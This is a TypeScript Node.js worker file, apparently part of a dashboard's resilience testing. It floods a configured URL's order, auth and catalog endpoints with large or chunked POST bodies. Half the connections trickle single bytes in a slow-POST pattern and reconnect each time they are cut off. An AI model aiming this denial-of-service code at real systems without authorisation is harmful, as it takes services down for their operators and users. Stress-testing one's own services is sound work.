import { connect, type Socket } from "node:net";
import { setPriority } from "node:os";
import { parentPort, workerData } from "node:worker_threads";
import { floodOrderSchema, IN_FULL_FLOW, type FloodReport } from "./flood.ts";

type Stranger = { target: string; length: number | null; slow: boolean };

const MEGABYTE = 1024 * 1024;
const PIECE = Buffer.alloc(64 * 1024, " ");
const TARGETS = ["/api/orders", "/api/orders/preflight", "/api/auth/callback/credentials", "/catalog"];
const LENGTHS = [9 * MEGABYTE, MEGABYTE, null];

// Lowest priority, because real attackers do not use the dashboard's own machine: this thread gets what the others leave.
setPriority(19);

const { url, connections } = floodOrderSchema.parse(workerData);
const open = new Set<Socket>();
const statuses = new Set<number>();
let [answered, sentBytes, stopped] = [0, 0, false];

/** Opens a connection as a stranger; opens the next one a second after it was cut off. */
function come(stranger: Stranger): void {
  if (stopped) return;
  const socket = connectTo(stranger);
  open.add(socket);
  socket.setEncoding("latin1").once("data", (head) => {
    answered += 1;
    statuses.add(Number(String(head).slice(9, 12)));
    // There were as many answers as connections, so the start-up phase is over.
    // oxlint-disable-next-line unicorn/require-post-message-target-origin
    if (answered === connections) parentPort?.postMessage(IN_FULL_FLOW);
  });
  const timer = keepSending(socket, stranger);
  socket.once("close", () => {
    clearInterval(timer);
    open.delete(socket);
    setTimeout(() => come(stranger), 1_000);
  });
}

function connectTo({ target, length }: Stranger): Socket {
  const { hostname, port, host } = new URL(url);
  const socket = connect({ port: Number(port), host: hostname }).on("error", () => undefined);
  const framing = length === null ? "Transfer-Encoding: chunked" : `Content-Length: ${length}`;
  const type = target.includes("auth") ? "application/x-www-form-urlencoded" : "application/json";
  const head = [`POST ${target} HTTP/1.1`, `Host: ${host}`, `Content-Type: ${type}`, framing, "", ""];
  socket.write(head.join("\r\n"));
  return socket;
}

/** Sends a piece ten times a second, as far as the last one was taken: a byte, or up to 640 kB a second. */
function keepSending(socket: Socket, { length, slow }: Stranger): NodeJS.Timeout {
  let left = length ?? 9 * MEGABYTE;
  return setInterval(() => {
    if (!socket.writable || socket.writableNeedDrain || left <= PIECE.length) return;
    const piece = slow ? PIECE.subarray(0, 1) : PIECE;
    left -= piece.length;
    const chunk =
      length === null
        ? Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")])
        : piece;
    socket.write(chunk, (error) => {
      if (!error) sentBytes += piece.length;
    });
  }, 100);
}

for (let index = 0; index < connections; index += 1) {
  const target = TARGETS[index % TARGETS.length] ?? "/";
  const length = LENGTHS[Math.floor(index / TARGETS.length) % LENGTHS.length] ?? null;
  // Half of each kind sends much, the other half a byte now and then.
  come({ target, length, slow: Math.floor(index / 12) % 2 === 0 });
}

parentPort?.once("message", () => {
  stopped = true;
  for (const socket of open) socket.destroy();
  // A thread's port, not a window: there is no origin to name.
  // oxlint-disable-next-line unicorn/require-post-message-target-origin
  parentPort?.postMessage({ answered, statuses: [...statuses], sentBytes } satisfies FloodReport);
});
